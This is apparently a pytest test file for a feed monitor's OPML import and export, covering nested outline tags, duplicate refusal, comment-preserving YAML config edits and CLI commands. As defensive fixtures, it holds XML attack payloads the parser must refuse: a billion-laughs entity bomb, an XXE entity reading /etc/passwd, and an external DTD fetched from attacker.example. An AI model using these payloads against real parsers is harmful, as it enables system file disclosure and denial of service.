"""OPML import and export of sources: nested outlines and categories, hostile files refused,
the config appended to with its comments kept, duplicates refused, the CLI commands."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from monitor.cli import app
from monitor.errors import ConfigError
from monitor.feeds.opml import (
    OpmlFeed,
    append_sources,
    exportable,
    import_into_config,
    plan_import,
    read_opml,
    slug,
    write_opml,
)
from monitor.settings import load_config
from monitor.types import HackerNewsQuery, SourceConfig

READER_EXPORT = b"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>My subscriptions</title></head>
  <body>
    <outline text="Energy">
      <outline text="Grid &amp; Power">
        <outline type="rss" text="Utility Dive" title="Utility Dive"
                 xmlUrl="https://www.utilitydive.com/feeds/news/" htmlUrl="https://www.utilitydive.com/"/>
      </outline>
      <outline type="rss" text="Latitude" xmlUrl="https://www.latitudemedia.com/feed/"
               category="/Climate/Tech,nuclear"/>
    </outline>
    <outline text="AI">
      <outline type="rss" text="Utility Dive again" xmlUrl="https://www.utilitydive.com/feeds/news/"/>
      <outline type="rss" title="Stratechery by Ben Thompson" text="x"
               xmlUrl="https://stratechery.com/feed/"/>
    </outline>
    <outline type="rss" text="Gopher" xmlUrl="gopher://old.example/feed"/>
    <outline text="A folder, no feeds"/>
  </body>
</opml>
"""

CONFIG = """\
# my monitor: hand-written, with comments that must survive
sources:
    # the blogs
    -   name: interconnects       # Nathan's
        url: https://www.interconnects.ai/feed
        interval: 1h
    -   name: latitude
        url: https://www.latitudemedia.com/feed/   # already here

# rules come next
rules:
  - rules
limits:
  items_per_poll: 100
"""


def test_read_opml_walks_nested_outlines_and_makes_tags() -> None:
    feeds = read_opml(READER_EXPORT)
    assert [(f.name, f.url, f.tags) for f in feeds] == [
        (
            "utility-dive",
            "https://www.utilitydive.com/feeds/news/",
            ["energy", "grid-power", "ai"],  # listed twice: one source, both folders
        ),
        ("latitude", "https://www.latitudemedia.com/feed/", ["energy", "tech", "nuclear"]),
        ("stratechery-by-ben-thompson", "https://stratechery.com/feed/", ["ai"]),
        ("gopher", "gopher://old.example/feed", []),
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [("Stratechery by Ben Thompson", "stratechery-by-ben-thompson"), ("  Ünï  ", "n"), ("", "")],
)
def test_slug(text: str, expected: str) -> None:
    assert slug(text) == expected


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE opml [
  <!ENTITY a "lol">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]>
<opml version="2.0"><body><outline text="&c;" xmlUrl="https://x.example/feed"/></body></opml>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<opml version="2.0"><body><outline text="&secret;" xmlUrl="https://x.example/feed"/></body></opml>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE opml SYSTEM "http://attacker.example/evil.dtd">
<opml version="2.0"><body/></opml>
"""


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (BILLION_LAUGHS, "declares a DTD or entities"),
        (XXE, "declares a DTD or entities"),
        (EXTERNAL_DTD, "declares a DTD or entities"),
        (b"<opml><body>" + b" " * (5 * 1024 * 1024) + b"</body></opml>", "larger than"),
        (b"<opml><body><outline", "not well-formed"),
        (b"<rss version='2.0'/>", "not <opml>"),
        (b"<opml version='2.0'><head/></opml>", "no <body>"),
        (
            b"<opml><body>" + b"<outline text='f'>" * 40 + b"</outline>" * 40 + b"</body></opml>",
            "nested deeper",
        ),
    ],
)
def test_hostile_or_broken_opml_is_refused(content: bytes, message: str) -> None:
    with pytest.raises(ConfigError, match=message) as caught:
        read_opml(content, "subs.opml")
    assert str(caught.value).startswith("subs.opml: ")


def test_plan_refuses_duplicates_by_url_or_name() -> None:
    existing = [
        SourceConfig("latitude", "https://www.LatitudeMedia.com/feed/?utm_source=x"),
        SourceConfig("stratechery-by-ben-thompson", "https://other.example/feed"),
    ]
    plan = plan_import(read_opml(READER_EXPORT), existing)
    assert [f.name for f in plan.added] == ["utility-dive"]
    assert [(f.name, reason) for f, reason in plan.refused] == [
        ("latitude", "its URL is already source 'latitude'"),
        (
            "stratechery-by-ben-thompson",
            "a source named 'stratechery-by-ben-thompson' already exists "
            "(https://other.example/feed)",
        ),
        ("gopher", "not an http(s) URL"),
    ]


def test_append_keeps_every_line_and_uses_the_lists_indentation() -> None:
    feeds = [
        OpmlFeed("utility-dive", "https://www.utilitydive.com/feeds/news/", ["energy", "ai"]),
        OpmlFeed("odd", "https://x.example/a#b: c", ["true"]),
    ]
    updated = append_sources(CONFIG, feeds, "monitor.yaml", note="imported from subs.opml")
    old_lines = CONFIG.splitlines()
    new_lines = updated.splitlines()
    assert new_lines[:8] == old_lines[:8]  # up to the last source's last line
    assert new_lines[8:15] == [
        "    # imported from subs.opml",
        "    -   name: utility-dive",
        "        url: https://www.utilitydive.com/feeds/news/",
        "        tags: [energy, ai]",
        "    -   name: odd",
        '        url: "https://x.example/a#b: c"',
        '        tags: ["true"]',
    ]
    assert new_lines[15:] == old_lines[8:]  # the rest, comments included


def test_import_into_config_appends_validates_and_reports(tmp_path: Path) -> None:
    path = tmp_path / "monitor.yaml"
    path.write_text(CONFIG, encoding="utf-8")
    plan = import_into_config(path, read_opml(READER_EXPORT), note="imported from subs.opml")
    assert [f.name for f in plan.added] == ["utility-dive", "stratechery-by-ben-thompson"]
    assert [f.name for f, _ in plan.refused] == ["latitude", "gopher"]
    text = path.read_text(encoding="utf-8")
    assert text.startswith(CONFIG.split("\n\n")[0])  # the head of the file is untouched
    assert "# rules come next\nrules:\n  - rules\nlimits:\n  items_per_poll: 100\n" in text
    sources = {s.name: s for s in load_config(path, {}).sources}
    assert sources["utility-dive"].tags == ("energy", "grid-power", "ai")
    assert sources["interconnects"].interval.total_seconds() == 3600
    # importing again adds nothing and changes nothing
    again = import_into_config(path, read_opml(READER_EXPORT))
    assert again.added == () and path.read_text(encoding="utf-8") == text


def test_a_config_that_would_not_load_is_not_written(tmp_path: Path) -> None:
    path = tmp_path / "monitor.yaml"
    broken_elsewhere = CONFIG + "  items_per_poll_typo: 1\n"
    path.write_text(broken_elsewhere, encoding="utf-8")
    with pytest.raises(ConfigError):
        import_into_config(path, read_opml(READER_EXPORT))
    assert path.read_text(encoding="utf-8") == broken_elsewhere
    assert [p.name for p in tmp_path.iterdir()] == ["monitor.yaml"]  # no temporary file left


def test_export_lists_feeds_with_their_tags_and_reads_back() -> None:
    sources = [
        SourceConfig("interconnects", "https://www.interconnects.ai/feed", tags=("ai", "research")),
        SourceConfig("sec", "https://www.sec.gov/cgi-bin/browse-edgar?action=getcurrent&x=1"),
        SourceConfig("hn", "https://hn.algolia.com/x", query=HackerNewsQuery("nuclear")),
    ]
    kept, left = exportable(sources)
    assert [s.name for s in left] == ["hn"]
    document = write_opml(kept, now=datetime(2026, 5, 14, tzinfo=UTC))
    assert document.startswith(b"<?xml version='1.0' encoding='utf-8'?>\n<opml version=\"2.0\">")
    assert b"<dateCreated>Thu, 14 May 2026 00:00:00 +0000</dateCreated>" in document
    assert b"action=getcurrent&amp;x=1" in document
    back = read_opml(document)
    assert [(f.name, f.url, f.tags) for f in back] == [
        ("interconnects", "https://www.interconnects.ai/feed", ["ai", "research"]),
        ("sec", "https://www.sec.gov/cgi-bin/browse-edgar?action=getcurrent&x=1", []),
    ]


def test_cli_import_and_export(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "rules").mkdir()
    (tmp_path / "monitor.yaml").write_text(CONFIG, encoding="utf-8")
    (tmp_path / "subs.opml").write_bytes(READER_EXPORT)
    runner = CliRunner()
    dry = runner.invoke(app, ["import-opml", "subs.opml", "--dry-run"])
    assert dry.exit_code == 1, dry.output  # some were refused
    assert "would add utility-dive: https://www.utilitydive.com/feeds/news/" in dry.stdout
    assert (tmp_path / "monitor.yaml").read_text(encoding="utf-8") == CONFIG
    done = runner.invoke(app, ["import-opml", "subs.opml", "--to", "monitor.yaml"])
    assert done.exit_code == 1
    assert "refused latitude (https://www.latitudemedia.com/feed/): its URL is already" in (
        done.stderr
    )
    assert "2 feed(s) added" in done.stderr
    exported = runner.invoke(app, ["export-opml", "out.opml", "--config", "monitor.yaml"])
    assert exported.exit_code == 0, exported.output
    names = [f.name for f in read_opml((tmp_path / "out.opml").read_bytes())]
    assert names == ["interconnects", "latitude", "utility-dive", "stratechery-by-ben-thompson"]
    to_stdout = runner.invoke(app, ["export-opml", "--config", "monitor.yaml"])
    assert to_stdout.exit_code == 0 and "<opml" in to_stdout.stdout
    hostile = tmp_path / "evil.opml"
    hostile.write_bytes(XXE)
    refused = runner.invoke(app, ["import-opml", str(hostile)])
    assert refused.exit_code == 2 and "declares a DTD" in refused.stderr
